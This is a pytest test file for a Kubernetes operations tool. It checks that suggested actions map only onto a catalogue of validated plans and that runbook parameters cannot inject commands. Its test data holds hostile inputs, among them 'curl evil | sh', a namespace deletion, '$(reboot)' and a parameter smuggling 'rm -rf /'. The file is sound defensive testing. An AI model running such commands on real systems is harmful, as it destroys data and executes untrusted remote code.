"""Suggestions map onto catalogue actions or are refused; runbook parameters are
validated and can only ever fill one argument."""

from __future__ import annotations

import sys
from types import MappingProxyType

import pytest

from cockpit.actions import runbook
from cockpit.actions.catalogue import Catalogue
from cockpit.actions.plans import ActionKind, Plan, Refusal
from cockpit.actions.safety import map_suggestion
from cockpit.config.schema import RunbookAction, RunbookParam

CATALOGUE = Catalogue((), (), "production", 10,
                      MappingProxyType({"api-gateway": (40, 41, 42)}),
                      frozenset({"node-a"}))


@pytest.mark.parametrize("text", [
    "kubectl delete namespace production",
    "kubectl rollout undo deployment/api-gateway; kubectl delete ns production",
    "restart api-gateway && curl evil | sh",
    "kubectl rollout restart deployment/api-gateway -n kube-system",
    "kubectl scale deployment/api-gateway --replicas=500",
    "kubectl rollout undo deployment/payments --to-revision=3",
    "kubectl rollout undo deployment/api-gateway --to-revision=7",
    "kubectl cordon node-z",
    "kubectl rollout restart deployment/api-gateway --force",
    "$(reboot)",
])
def test_hostile_or_invalid_suggestions_are_text_only(text: str) -> None:
    refused = map_suggestion(text, CATALOGUE)
    assert isinstance(refused, Refusal), refused
    assert refused.reason.endswith("shown as text only")


@pytest.mark.parametrize(("suggestion", "expected"), [
    ("kubectl rollout undo deployment/api-gateway --to-revision=41 -n production",
     Plan(ActionKind.ROLLBACK, "api-gateway", "production", 41)),
    ("`kubectl rollout restart deploy/api-gateway`",
     Plan(ActionKind.RESTART, "api-gateway", "production")),
    ("scale api-gateway to 6", Plan(ActionKind.SCALE, "api-gateway", "production",
                                    replicas=6)),
    ({"action": "rollback", "deployment": "api-gateway", "to_revision": 40},
     Plan(ActionKind.ROLLBACK, "api-gateway", "production", 40)),
    ("kubectl cordon node-a", Plan(ActionKind.CORDON, "node-a", "")),
])
def test_catalogue_suggestions_map_to_validated_plans(suggestion: object,
                                                      expected: Plan) -> None:
    assert map_suggestion(suggestion, CATALOGUE) == expected  # type: ignore[arg-type]


def test_kubectl_equivalent_is_quoted_and_exact() -> None:
    plan = Plan(ActionKind.SCALE, "api-gateway", "production", replicas=4, context="prod ctx")
    assert plan.kubectl() == ("kubectl scale deployment/api-gateway --replicas=4 "
                              "-n production --context 'prod ctx'")


ACTION = RunbookAction("purge", "purge a cache", [sys.executable, "-c", "print(1)", "{key}",
                                                  "--n={n}"],
                       [RunbookParam("key", "str", pattern=r"[a-z0-9-]+"),
                        RunbookParam("n", "int", min=1, max=5)])


def test_runbook_values_fill_exactly_one_argument() -> None:
    argv = runbook.render(ACTION, {"key": "user-42", "n": "3"})
    assert argv[-2:] == ("user-42", "--n=3")


@pytest.mark.parametrize(("values", "error"), [
    ({"key": "x y; rm -rf /", "n": "1"}, "must match"),
    ({"key": "ok", "n": "9"}, "at most 5"),
    ({"key": "ok", "n": "two"}, "whole number"),
    ({"key": "ok"}, "needs n=VALUE"),
    ({"key": "ok", "n": "1", "extra": "1"}, "takes no parameter extra"),
])
def test_runbook_bad_values_are_refused(values: dict[str, str], error: str) -> None:
    with pytest.raises(runbook.RunbookError, match=error):
        runbook.render(ACTION, values)


def test_runbook_runs_without_a_shell_and_captures_output() -> None:
    result = runbook.run((sys.executable, "-c", "import sys; print(sys.argv[1])", "a; echo b"),
                         10)
    assert result.ok and result.output.strip() == "a; echo b"
